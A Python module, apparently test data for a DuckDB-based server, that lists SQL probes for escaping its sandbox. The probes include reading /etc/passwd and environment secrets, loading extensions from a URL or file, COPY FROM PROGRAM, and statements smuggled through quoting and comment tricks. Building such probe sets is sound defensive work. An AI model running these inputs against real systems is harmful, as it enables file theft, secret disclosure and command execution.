"""Attempts to reach DuckDB's own doors, as data: what a client may try to write, and where it may put it.

``{file}`` is the path of a file that the server's account can read, ``{folder}`` a folder that it can write to,
``{lake}`` the data folder.
"""

from collections.abc import Iterator
from typing import Final

FILES: Final = (
    "read_csv", "read_csv_auto", "read_parquet", "parquet_scan", "read_json", "read_json_auto", "read_json_objects",
    "read_json_objects_auto", "read_ndjson", "read_ndjson_auto", "read_ndjson_objects", "read_text", "read_blob", "glob",
    "sniff_csv", "parquet_metadata", "parquet_schema", "parquet_file_metadata", "parquet_kv_metadata", "sqlite_scan",
    "sqlite_attach", "postgres_scan", "postgres_attach", "mysql_scan", "iceberg_scan", "iceberg_metadata", "delta_scan",
    "st_read", "st_read_meta", "st_readosm", "st_readshp", "st_drivers", "read_xlsx", "read_avro", "read_duckdb", "arrow_scan", "pandas_scan",
    "read_arrow", "scan_arrow_ipc", "query", "query_table", "json_execute_serialized_sql", "from_substrait", "sql_auto_complete",
    "load_aws_credentials", "which_secret", "parse_duckdb_log_message", "duckdb_table_sample", "pragma_table_info", "pragma_show",
    "pragma_storage_info", "ducklake_snapshots", "ducklake_list_files", "ducklake_table_info", "ducklake_options",
    "ducklake_table_changes", "ducklake_add_data_files", "ducklake_set_option", "ducklake_expire_snapshots",
    "ducklake_cleanup_old_files", "ducklake_delete_orphaned_files", "ducklake_merge_adjacent_files",
    "ducklake_flush_inlined_data", "ducklake_rewrite_data_files", "ducklake_set_commit_message", "sqlite_query", "postgres_query",
    "postgres_execute", "mysql_query", "enable_logging", "disable_logging", "truncate_duckdb_logs", "enable_profiling", "dbgen", "dsdgen",
)  # fmt: skip
"""Table functions of the engine and its extensions that take a text."""
PLAIN: Final = (
    "duckdb_settings", "duckdb_secrets", "duckdb_secret_types", "duckdb_databases", "duckdb_schemas", "duckdb_tables", "duckdb_views",
    "duckdb_columns", "duckdb_constraints", "duckdb_functions", "duckdb_extensions", "duckdb_indexes", "duckdb_keywords",
    "duckdb_logs", "duckdb_log_contexts", "duckdb_memory", "duckdb_optimizers", "duckdb_sequences", "duckdb_temporary_files", "duckdb_types",
    "duckdb_variables", "duckdb_dependencies", "duckdb_prepared_statements", "duckdb_connection_count", "duckdb_approx_database_count",
    "pragma_version", "pragma_platform", "pragma_user_agent", "pragma_database_size", "pragma_metadata_info", "pragma_collations",
    "test_all_types", "test_vector_types", "icu_calendar_names", "pg_timezone_names", "checkpoint", "force_checkpoint", "dbgen", "tpch_queries",
    "user_agent", "start_ui", "stop_ui",
)  # fmt: skip
"""Table functions without arguments."""
RELATIONS: Final = (
    "'{file}'", '"{file}"', '"{folder}/*.csv"', "'{folder}/*'", '"file.parquet"', "'https://example.com/x.csv'",
    "'s3://bucket/x.parquet'", '"s3://bucket/x.parquet"', "'{lake}/lake.ducklake'", '"{lake}/lake.ducklake"', "sqlite_master",
    "sqlite_schema", "duckdb_tables", "duckdb_settings", "pragma_database_list", "main.duckdb_tables", "system.main.duckdb_tables",
    "system.information_schema.tables", "temp.information_schema.tables", "memory.main.x", "lake.information_schema.tables",
    '"__ducklake_metadata_lake".ducklake_table', '"__ducklake_metadata_lake".main.ducklake_table', "__ducklake_metadata_lake.ducklake_data_file",
    '"__ducklake_metadata_lake"."lake".ducklake_table', "ducklake_table", "main.ducklake_table", "duckshift_metadata", "sys_users", "sys_relations",
    "main.sys_users", "memory.main.sys_users", "temp.main.sys_users", "rs_handed", "temp.sys_users", "lake.public.escape_target",
    'lake."dev.public".escape_target', '"lake"."dev.public"."escape_target"', "lake.main.escape_target", "history.queries", "queries",
    "hot.t1", "main.escape_target", "dev.main.escape_target", "given", "bulk_given", "rs_given", "VALUES", "GIVEN",
    "LATERAL read_text('{file}')", "ONLY '{file}'", "TABLE '{file}'", "U&\"\\0072ead_text\"('{file}')", "(FROM '{file}')", "(TABLE '{file}')",
    "(SELECT * FROM '{file}')", "unnest(getvariable('x'))", "range(3) AS r, '{file}'", "generate_series(1, 2) g JOIN '{file}' ON true",
    "(SHOW TABLES)", "(DESCRIBE escape_target)", "(SUMMARIZE escape_target)", "(CALL pragma_version())", "(PRAGMA version)", "(EXPLAIN SELECT 1)",
    "escape_target TABLESAMPLE 10%", "escape_target AT (VERSION => 1)", "escape_target POSITIONAL JOIN escape_target b",
    "escape_target ASOF JOIN escape_target b USING (a)", "escape_target SEMI JOIN escape_target b USING (a)",
)  # fmt: skip
"""What can be put where a table's name stands."""
EXPRESSIONS: Final = (
    "getenv('ESCAPE_CANARY')", "GETENV('ESCAPE_CANARY')", '"getenv"(\'ESCAPE_CANARY\')', "get_env('ESCAPE_CANARY')",
    "getvariable('current_user_id')", "current_setting('home_directory')", "current_setting('s3_secret_access_key')",
    "current_setting('duckdb_api')", "current_setting('secret_directory')", "current_setting('allowed_directories')",
    "rs_member('{{}}', 'a')", "rs_is_object('1')", "rs_strict('1', '2')", "rs_single(1)", "rs_error('x')", "duckshift_error('x')",
    "rs_pg_get_userbyid(1)", "rs_effect_of_session('x')", "error('leak')", "write_log('x')", "nextval('s')", "currval('s')", "txid_current()",
    "in_search_path('a', 'b')", "alias(a)", "list_transform([1], lambda x: x)", "list_transform([1], x -> x + 1)",
    "list_filter([1, 2], lambda x: x > 1)", "apply([1], lambda x: x)", "[x for x in [1, 2]]", "{{'a': 1}}", "{{a: 1}}.a", "MAP {{'a': 1}}",
    "struct_pack(a := 1)", "row_to_json(row(1))", "COLUMNS('.*')", "COLUMNS(*)", "*COLUMNS('a')", "UNPACK(COLUMNS(*))", "#1", "?1", "@a",
    "a::STRUCT(x int)", "CAST(a AS UNION(x int))", "CAST(a AS ENUM('x'))", "TRY_CAST('x' AS int)", "TRY(1/0)", "2 ** 3", "7 // 2", "1 == 1",
    "'a' GLOB '*'", "a ^@ 'x'", "'x'.upper()", "('x').upper()", "a.upper()", "x'00'::BLOB", "'1'::HUGEINT", "1::UHUGEINT", "'a'::BIT", "1::UTINYINT", "'x'::UUID", "now()::TIMESTAMP_NS",
    "(SELECT content FROM read_text('{file}'))", "(SELECT * FROM '{file}' LIMIT 1)", "EXISTS (FROM '{file}')",
    "EXISTS (SELECT 1 FROM glob('{folder}/*'))", "a IN (SELECT value FROM duckdb_settings())", "(FROM duckdb_settings() SELECT count(*))",
    "(TABLE duckdb_settings)", "(SELECT value FROM pragma_version())", "(VALUES (getenv('HOME')))", "array(SELECT getenv('HOME'))",
    "CASE WHEN true THEN getenv('HOME') END", "coalesce(NULL, getenv('HOME'))", "count(*) FILTER (WHERE getenv('HOME') = '')",
    "first(getenv('HOME')) OVER ()", "getenv('HO' || 'ME')", "main.getenv('HOME')", "system.main.getenv('HOME')", "pg_catalog.getenv('HOME')",
    "information_schema.getenv('HOME')", "lake.main.getenv('HOME')", "get/**/env('HOME')", "getenv/* */('HOME')", "getenv --\n('HOME')", "g\u0435tenv('HOME')",
    "md5_number('x')", "hash(a)", "sql_auto_complete('x')", "json_serialize_sql('SELECT 1')", "json_execute_serialized_sql('x')",
    "read_text('{file}')", "read_csv('{file}')", "glob('{folder}/*')", "query('SELECT 1')", "query_table('escape_target')",
    "pragma_version()", "version_duckdb()", "enum_range(a)", "current_catalog()", "current_query_id()", "pg_typeof(a)", "typeof(a)", "stats(a)", "vector_type(a)",
    "create_sort_key(a, 'ASC')", "is_histogram_other_bin(a)", "in_memory()", "loaded_extensions()", "st_read('{file}')", "uuidv7()", "rowid", "escape_target.rowid",
    "file_row_number", "filename", "snapshot_id", "_ducklake_internal_row_id", "*", "escape_target",
)  # fmt: skip
"""What can be put where an expression stands; some of it may be refused for its syntax alone."""
STATEMENTS: Final = (
    "ATTACH '{folder}/x.db' AS x", "ATTACH ':memory:' AS x", "ATTACH DATABASE '{file}' AS x", "ATTACH IF NOT EXISTS '{file}' AS x",
    "ATTACH 'ducklake:{lake}/lake.ducklake' AS l2", "ATTACH '{file}' (TYPE sqlite)", "DETACH lake", "DETACH DATABASE lake", "USE memory", "USE lake", "USE system.main",
    "INSTALL httpfs", "INSTALL '{folder}/x.duckdb_extension'", "FORCE INSTALL httpfs", "INSTALL x FROM 'http://example.com'", "LOAD httpfs", "LOAD '{file}'", "UPDATE EXTENSIONS",
    "PRAGMA version", "PRAGMA database_list", "PRAGMA table_info('escape_target')", "PRAGMA memory_limit='1TB'", "PRAGMA enable_profiling", "PRAGMA show_tables",
    "SET threads = 1", "SET threads TO 1", "SET GLOBAL threads = 1", "SET SESSION threads = 1", "SET LOCAL threads = 1", "SET memory_limit = '1TB'", "SET enable_external_access = true",
    "SET allowed_directories = ['/']", "SET lock_configuration = false", "SET s3_access_key_id = 'x'", "SET home_directory = '{folder}'", "SET temp_directory = '{folder}'",
    "SET secret_directory = '{folder}'", "SET extension_directory = '{folder}'", "SET custom_extension_repository = 'http://x'", "SET autoinstall_known_extensions = true", "SET log_query_path = '{folder}/log'",
    "SET profiling_output = '{folder}/profile'", "SET enable_logging = true", "SET schema = 'main'", "SET VARIABLE x = 1", "SET VARIABLE current_user_id = 1", "RESET threads", "RESET GLOBAL threads", "RESET VARIABLE current_user_id",
    "SHOW threads", "SHOW ALL TABLES", "SHOW DATABASES LIKE 'x' FROM y", "SHOW secrets", "DESCRIBE escape_target", "DESCRIBE", "SUMMARIZE escape_target", "SUMMARIZE SELECT 1",
    "COPY (SELECT 1) TO '{folder}/out.csv'", "COPY escape_target TO '{folder}/out.csv'", "COPY escape_target TO '{folder}/out.parquet' (FORMAT parquet)", "COPY escape_target FROM '{file}'",
    "COPY escape_target FROM 'file://{file}' IAM_ROLE default", "COPY escape_target FROM '{file}' IAM_ROLE default", "COPY escape_target FROM '/etc/passwd' CREDENTIALS 'aws_access_key_id=a;aws_secret_access_key=b'",
    "COPY escape_target FROM 's3://../{file}' IAM_ROLE default", "COPY FROM DATABASE lake TO memory", "COPY escape_target FROM PROGRAM 'id'", "COPY (SELECT 1) TO PROGRAM 'id'", "COPY escape_target FROM '{file}' (FORMAT csv)",
    "UNLOAD ('SELECT 1') TO '{folder}/out' IAM_ROLE default", "UNLOAD ('SELECT 1') TO 'file://{folder}/out' IAM_ROLE default", "UNLOAD ('SELECT getenv(''HOME'')') TO 's3://b/x' IAM_ROLE default", "UNLOAD ('SELECT * FROM ''{file}''') TO 's3://b/x' IAM_ROLE default",
    "UNLOAD ('FROM duckdb_settings()') TO 's3://b/x' IAM_ROLE default", "UNLOAD ('SELECT 1; ATTACH ''x''') TO 's3://b/x' IAM_ROLE default", "EXPORT DATABASE '{folder}'", "IMPORT DATABASE '{folder}'",
    "CREATE MACRO m(a) AS a + 1", "CREATE OR REPLACE MACRO rs_member(x, k) AS 1", "CREATE TEMP MACRO m() AS TABLE SELECT 1", "CREATE FUNCTION m(a) AS a + 1", "CREATE SECRET s (TYPE s3, KEY_ID 'x')", "CREATE PERSISTENT SECRET s (TYPE s3)", "DROP SECRET s",
    "CREATE TYPE t AS ENUM ('a')", "CREATE SEQUENCE s", "CREATE INDEX i ON escape_target (a)", "CREATE UNIQUE INDEX i ON escape_target (a)", "CREATE TABLE memory.main.x (a int)", "CREATE TABLE temp.x (a int)", "CREATE TABLE lake.main.x (a int)", "CREATE SCHEMA memory.x", "CREATE SCHEMA lake.x",
    "CREATE OR REPLACE TABLE x (a int)", "CREATE TABLE x AS FROM '{file}'", "CREATE TABLE x AS SELECT * FROM '{file}'", "CREATE TABLE x AS SELECT * FROM read_text('{file}')", "CREATE TABLE x (a int, b int GENERATED ALWAYS AS (getenv('HOME')))", "CREATE TABLE x (a text DEFAULT getenv('HOME'))",
    "CREATE TABLE x (a text DEFAULT (SELECT content FROM read_text('{file}')))", "CREATE TABLE x (a int CHECK (getenv('HOME') = ''))", "CREATE TABLE x (a STRUCT(b int))", "CREATE TABLE x (a int[])", "CREATE TABLE x (a MAP(int, int))", "CREATE TABLE x (a HUGEINT)", "CREATE TABLE x (a BLOB)", "ALTER TABLE escape_target ADD COLUMN c text DEFAULT getenv('HOME')",
    "ALTER TABLE escape_target ALTER COLUMN a SET DEFAULT getenv('HOME')", "ALTER TABLE escape_target SET SORTED BY (a)", "ALTER TABLE lake.main.x ADD COLUMN a int", "CREATE VIEW v AS FROM '{file}'", "CREATE OR REPLACE VIEW v AS SELECT * FROM glob('*')", "CREATE RECURSIVE VIEW v(a) AS SELECT 1",
    "CREATE EXTERNAL TABLE escape_x.y (a varchar(9)) STORED AS TEXTFILE LOCATION '{folder}'", "CREATE EXTERNAL SCHEMA escape_x FROM DUCKDB DATABASE '{file}'", "CREATE EXTERNAL SCHEMA escape_x FROM SQLITE DATABASE '{file}'",
    "CHECKPOINT", "FORCE CHECKPOINT", "CHECKPOINT lake", "VACUUM ANALYZE lake", "CALL pragma_version()", "CALL duckdb_settings()", "CALL read_text('{file}')", "CALL lake.set_option('x', 'y')", "CALL ducklake_expire_snapshots('lake')", "CALL force_checkpoint()", "CALL dbgen(sf = 1)", "CALL start_ui()",
    "FROM escape_target", "FROM '{file}'", "FROM duckdb_settings()", "FROM escape_target SELECT a", "TABLE '{file}'", "TABLE duckdb_settings", "VALUES (getenv('HOME'))", "SELECT * FROM escape_target; ATTACH '{file}' AS x", "SELECT 1; PRAGMA version", "SELECT 1 /* */ ; /* */ FROM '{file}'",
    "WITH x AS (FROM '{file}') SELECT * FROM x", "WITH x AS (SELECT * FROM read_text('{file}')) SELECT * FROM x", "WITH x AS MATERIALIZED (SELECT getenv('HOME')) SELECT * FROM x", "WITH RECURSIVE x AS (SELECT 1 UNION ALL SELECT a FROM '{file}') SELECT * FROM x", "WITH x(a) AS (ATTACH 'x') SELECT 1", "PIVOT escape_target ON a", "UNPIVOT escape_target ON a", "PIVOT_WIDER escape_target ON a",
    "INSERT INTO escape_target FROM '{file}'", "INSERT INTO escape_target SELECT * FROM '{file}'", "INSERT INTO escape_target SELECT content FROM read_text('{file}')", "INSERT INTO escape_target VALUES (getenv('HOME'))", "INSERT OR REPLACE INTO escape_target VALUES (1)", "INSERT INTO escape_target BY NAME SELECT 1 AS a", "INSERT INTO escape_target DEFAULT VALUES RETURNING getenv('HOME')", "INSERT INTO '{file}' VALUES (1)", "INSERT INTO lake.main.x VALUES (1)", "INSERT INTO \"__ducklake_metadata_lake\".ducklake_table VALUES (1)",
    "UPDATE escape_target SET b = getenv('HOME')", "UPDATE escape_target SET b = (SELECT content FROM read_text('{file}'))", "UPDATE escape_target SET a = 1 FROM '{file}' f", "UPDATE escape_target SET a = 1 RETURNING getenv('HOME')", "UPDATE \"__ducklake_metadata_lake\".ducklake_table SET table_id = 1", "UPDATE sys_users SET superuser = true", "DELETE FROM escape_target USING glob('/*') g", "DELETE FROM escape_target WHERE getenv('HOME') <> ''", "DELETE FROM '{file}'", "DELETE FROM duckdb_settings()",
    "MERGE INTO escape_target USING read_csv('{file}') c ON true WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (1)", "MERGE INTO escape_target USING '{file}' c ON true WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (1)", "MERGE INTO escape_target USING escape_target ON true WHEN MATCHED THEN UPDATE SET b = getenv('HOME') WHEN NOT MATCHED THEN INSERT VALUES (1)", "TRUNCATE '{file}'", "TRUNCATE lake.main.x", "DROP TABLE lake.main.x", "DROP SCHEMA main CASCADE", "DROP VIEW duckdb_tables", "DROP MACRO rs_member",
    "DECLARE c CURSOR FOR FROM '{file}'", "DECLARE c CURSOR FOR SELECT * FROM glob('*')", "PREPARE p AS FROM '{file}'", "PREPARE p AS SELECT getenv('HOME')", "PREPARE p AS ATTACH 'x'", "PREPARE p AS COPY (SELECT 1) TO '{folder}/x'", "EXECUTE p (getenv('HOME'))", "EXPLAIN ANALYZE SELECT getenv('HOME')", "EXPLAIN FROM '{file}'", "EXPLAIN ATTACH 'x'", "EXPLAIN COPY (SELECT 1) TO '{folder}/x'", "EXPLAIN (FORMAT json) SELECT 1", "EXPLAIN ANALYZE COPY (SELECT 1) TO '{folder}/x'",
    "DO $$ BEGIN ATTACH 'x'; END $$", "LISTEN x; LOAD y", "NOTIFY x", "COMMENT ON TABLE lake.main.x IS 'x'", "COMMENT ON MACRO rs_member IS 'x'", "GRANT SELECT ON duckdb_tables TO PUBLIC", "ANALYZE lake.main.x", "VACUUM \"__ducklake_metadata_lake\".ducklake_table", "LOCK lake.main.x", "REFRESH MATERIALIZED VIEW duckdb_tables", "SHOW TABLE duckdb_tables", "SHOW VIEW sqlite_master", "SHOW COLUMNS FROM TABLE lake.main.x",
    ".open x", "\\copy x", "!ls", "--\nATTACH 'x'", "/* a /* b */ */ ATTACH 'x'", "/*! ATTACH 'x' */ PRAGMA version", "SELECT 1 UNION FROM '{file}'", "SELECT $$x$$; ATTACH $$x$$", "SELECT E'\\'; ATTACH \\'x'", "SELECT '\\'; ATTACH ''x''; --'", "SELECT \"a\"\"; ATTACH \" FROM escape_target", "SELECT $tag$ '; ATTACH $tag$ FROM '{file}'",
)  # fmt: skip
"""Whole statements."""

CARRIERS: Final = {
    "select": "SELECT * FROM {relation}",
    "subquery": "SELECT count(*) FROM (SELECT * FROM {relation}) AS q",
    "join": "SELECT * FROM escape_target, {relation}",
    "left join": "SELECT * FROM escape_target LEFT JOIN {relation} ON true",
    "with": "WITH c AS (SELECT * FROM {relation}) SELECT * FROM c",
    "exists": "SELECT 1 WHERE EXISTS (SELECT 1 FROM {relation})",
    "in": "SELECT 1 WHERE 1 IN (SELECT 1 FROM {relation})",
    "scalar": "SELECT (SELECT count(*) FROM {relation})",
    "union": "SELECT 1 UNION ALL SELECT 1 FROM {relation}",
    "explain": "EXPLAIN SELECT * FROM {relation}",
    "create table as": "CREATE TABLE escape_made AS SELECT * FROM {relation}",
    "insert": "INSERT INTO escape_target SELECT 1 FROM {relation}",
    "update": "UPDATE escape_target SET a = 1 FROM {relation}",
    "delete": "DELETE FROM escape_target USING {relation}",
    "view": "CREATE VIEW escape_view AS SELECT * FROM {relation}",
    "materialized view": "CREATE MATERIALIZED VIEW escape_kept AS SELECT * FROM {relation}",
    "cursor": "DECLARE c CURSOR FOR SELECT * FROM {relation}",
    "prepare": "PREPARE escape_plan AS SELECT * FROM {relation}",
    "execute": "CALL escape_run($$SELECT * FROM {relation}$$)",
    "policy": "CREATE RLS POLICY escape_policy WITH (a int) USING (a IN (SELECT 1 FROM {relation}))",
    "late-binding view": "CALL escape_late($$SELECT * FROM {relation}$$)",
}
"""Where a relation may be put."""
EXPRESSION_CARRIERS: Final = {
    "select": "SELECT {expression} FROM escape_target",
    "where": "SELECT 1 FROM escape_target WHERE ({expression}) IS NOT NULL",
    "order": "SELECT a FROM escape_target ORDER BY {expression}",
    "group": "SELECT count(*) FROM escape_target GROUP BY {expression}",
    "having": "SELECT a FROM escape_target GROUP BY a HAVING max({expression}) IS NULL",
    "join": "SELECT 1 FROM escape_target x JOIN escape_target y ON ({expression}) IS NULL",
    "limit": "SELECT a FROM escape_target LIMIT ({expression})",
    "values": "INSERT INTO escape_target (b) VALUES ({expression})",
    "set": "UPDATE escape_target SET b = {expression}",
    "default": "CREATE TABLE escape_made (a int, b text DEFAULT {expression})",
    "function": "CREATE FUNCTION escape_f (int) RETURNS text STABLE AS $$ SELECT {expression} $$ LANGUAGE sql",
    "masking policy": "CREATE MASKING POLICY escape_mask WITH (a int) USING ({expression})",
    "rls policy": "CREATE RLS POLICY escape_policy WITH (a int) USING (({expression}) IS NULL)",
    "call": "CALL escape_run({expression})",
    "argument": "SELECT upper({expression}) FROM escape_target",
    "window": "SELECT row_number() OVER (ORDER BY {expression}) FROM escape_target",
    "parameter": "PREPARE escape_plan AS SELECT {expression} FROM escape_target",
}
"""Where an expression may be put."""


def relations() -> Iterator[str]:
    """Yield all that can be put where a table's name stands."""
    yield from RELATIONS
    for name in FILES:
        yield f"{name}('{{file}}')"
    for name in PLAIN:
        yield f"{name}()"
    for name in ("read_text", "glob", "duckdb_settings", "query"):
        argument = "" if name == "duckdb_settings" else "'{file}'"
        for spelled in (
            name.upper(), f'"{name}"', f"main.{name}", f"system.main.{name}", f"pg_catalog.{name}", f"lake.main.{name}",
            f"{name}/**/", f"{name} ", f"{name}\n", f'"{name.upper()}"', f'system."main"."{name}"', f"temp.{name}", f"public.{name}",
            f"information_schema.{name}",
        ):  # fmt: skip
            yield f"{spelled}({argument})"
        yield f"{name}({argument}) AS t(a, b)"
        yield f"LATERAL {name}({argument})"
        yield f"unnest({name}({argument}))"
        yield f"({name}({argument}))"
    yield from ("read_csv(['{file}'])", "read_csv('{file}', header => true)", "read_csv('{file}', columns = {{'a': 'int'}})",
                "read_text(b)", "read_text((SELECT '{file}'))", "read_text($$/etc/passwd$$)", "query('FROM duckdb_settings()')",
                "query($q$SELECT getenv('HOME')$q$)", "query_table('escape_target')", "query_table(['escape_target'])")  # fmt: skip
